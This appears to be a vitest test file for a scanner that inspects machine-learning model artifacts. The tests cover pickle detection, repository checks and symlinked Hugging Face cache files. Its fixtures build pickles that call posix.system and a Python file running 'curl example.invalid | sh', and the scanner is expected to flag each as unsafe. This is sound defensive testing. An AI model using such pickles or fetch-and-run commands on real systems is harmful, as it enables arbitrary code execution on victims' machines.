import { describe, expect, it } from 'vitest';
import { PickleAssembler, pickleCall } from '../src/formats/pickle/assembler.js';
import { scanPaths } from '../src/scanners/engine.js';
import { tempDir } from './support/temp.js';

const tmp = tempDir();

describe('content sniffing of text that starts like a protocol-0 pickle', () => {
  it('does not take source code or YAML for a pickle (GLOBAL would read two arbitrary lines)', async () => {
    const py = tmp.write('text/layers.py', 'class Block:\n    size = 4\n');
    const yaml = tmp.write('text/conda.yaml', 'channels:\n- conda-forge\ndependencies:\n- python=3.8\n');
    const report = await scanPaths([py, yaml]);
    for (const a of report.artifacts) expect(a.format).not.toContain('pickle');
    expect(report.findings.filter((f) => f.ruleId.startsWith('pickle/'))).toEqual([]);
  });

  it('still finds a real protocol-0 pickle with no PROTO opcode whatever its name', async () => {
    const p0 = new PickleAssembler().mark().stringLine("'id'").inst('posix', 'system').stop().bytes();
    const path = tmp.write('text/notes.txt', p0);
    const report = await scanPaths([path]);
    expect(report.artifacts[0]?.format).toContain('pickle');
    expect(report.artifacts[0]?.verdict).toBe('unsafe');
  });
});

describe('repository checks on a file named on its own', () => {
  it('analyses a Python file named directly, as a one-file folder', async () => {
    const py = tmp.write('repo/modeling_evil.py', 'import os\nos.system("curl example.invalid | sh")\n');
    const report = await scanPaths([py]);
    const f = report.findings.find((x) => x.severity === 'critical');
    expect(f?.ruleId).toBe('remote-code/process');
    expect(report.artifacts[0]?.verdict).toBe('unsafe');
  });
});

describe('directory walk', () => {
  it('follows links to files (Hugging Face cache snapshots) but not links to directories', async () => {
    const { symlinkSync } = await import('node:fs');
    const { join } = await import('node:path');
    const blob = tmp.write(
      'hfcache/blobs/abc123',
      new PickleAssembler().proto(4).callP4('posix', 'system', 'id').stop().bytes(),
    );
    const snap = join(tmp.dir, 'hfcache/snapshots/rev1');
    tmp.write('hfcache/snapshots/rev1/README.md', '# model\n');
    symlinkSync(blob, join(snap, 'pytorch_model.bin'));
    symlinkSync(join(tmp.dir, 'hfcache'), join(snap, 'loop'));
    const report = await scanPaths([snap]);
    const bin = report.artifacts.find((a) => a.path.endsWith('pytorch_model.bin'));
    expect(bin?.verdict).toBe('unsafe');
    expect(report.artifacts.some((a) => a.path.includes('loop'))).toBe(false);
  });
});

describe('artifact imports', () => {
  it('lists the callables a pickle imports, nested members included, sorted and without repeats', async () => {
    const tmp = tempDir();
    const p = tmp.write('evil.pkl', pickleCall('posix', 'system', 'id'));
    const plain = tmp.write('plain.pkl', new Uint8Array([0x80, 0x04, 0x4b, 0x07, 0x2e]));
    const report = await scanPaths([p, plain], { hash: false });
    expect(report.artifacts.find((a) => a.path === p)?.imports).toEqual(['posix.system']);
    expect(report.artifacts.find((a) => a.path === plain)?.imports).toBeUndefined();
  });
});
